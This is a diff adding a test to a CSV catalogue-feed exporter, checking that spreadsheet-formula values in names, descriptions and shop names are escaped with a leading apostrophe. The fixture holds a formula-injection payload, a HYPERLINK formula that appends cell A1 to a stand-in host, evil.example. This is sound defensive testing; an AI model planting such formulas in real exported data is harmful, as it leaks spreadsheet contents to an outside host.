@@ -162,4 +162,14 @@ describe('Meta catalogue feed', () => {
 		expect(row!.title).toBe('Two lines, "quoted"')
 		expect(row!.id).toBe('PI-302')
 	})
+
+	test('text a spreadsheet would run as a formula starts with an apostrophe', () => {
+		const formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+		const risky = buildFeedEntries([{ ...tricky, name: formula, description: '@SUM(1+1)' }], origin).entries
+		const [row] = parse(metaFeedCsv({ entries: risky, shopName: '+91 Silks' }), { columns: true }) as Array<Record<string, string>>
+		expect(row!.title).toBe(`'${formula}`)
+		expect(row!.description).toBe("'@SUM(1+1)")
+		expect(row!.brand).toBe("'+91 Silks")
+		expect(row!.price).toBe('12000.00 INR')
+	})
 })
